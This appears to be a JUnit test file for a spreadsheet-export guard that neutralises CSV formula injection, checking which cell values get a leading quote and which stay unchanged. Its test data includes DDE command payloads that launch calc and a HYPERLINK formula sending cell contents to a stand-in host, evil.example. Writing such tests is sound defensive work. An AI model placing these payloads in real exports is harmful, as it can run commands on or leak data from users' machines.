package counterfoil.report.export;

import static org.junit.jupiter.api.Assertions.assertEquals;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** What OWASP's page on CSV injection lists, and what must stay as it is. */
class FormulaGuardTest {
  @ParameterizedTest
  @ValueSource(
      strings = {
        "=1+1",
        "=1+2\";=1+2",
        "=1+2'\" ;,=1+2",
        "=cmd|' /C calc'!A0",
        "=HYPERLINK(\"http://evil.example?x=\"&A1,\"click\")",
        "+1+1",
        "+49 30 901820",
        "-1+1",
        "-2+3+cmd|' /C calc'!D2",
        "-5 EUR",
        "-",
        "--1",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\tanything",
        "\r=1+1",
        "\nanything",
        "\uFF1D1+1",
        "\uFF0B1",
        "\uFF0D1",
        "\uFF20SUM(1)",
        "  =1+1",
        "\u00A0=1+1",
        "\uFEFF=1+1",
        "\u200B=1+1",
        "\"=1+1"
      })
  void what_starts_a_formula_becomes_text(String dangerous) {
    assertEquals('\'', FormulaGuard.guard(dangerous).charAt(0));
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "",
        "-20.00",
        "-5",
        "0.00",
        "1234.50",
        "Rent, November",
        "A=B",
        "12-14",
        "1004-2213",
        "2026-11-23",
        "nadia@example.org",
        "O'Brien",
        "'already text",
        "王秀英"
      })
  void what_starts_none_stays_as_it_is(String harmless) {
    assertEquals(harmless, FormulaGuard.guard(harmless));
  }

  @Test
  void a_formula_behind_another_programs_separator_becomes_text_too() {
    assertEquals("Rent;'=1+1", FormulaGuard.guard("Rent;=1+1"));
    assertEquals("Rent; \"'=1+1", FormulaGuard.guard("Rent; \"=1+1"));
    assertEquals("Rent\t'@SUM(A1)", FormulaGuard.guard("Rent\t@SUM(A1)"));
    assertEquals("Rent\n'+1", FormulaGuard.guard("Rent\n+1"));
  }
}
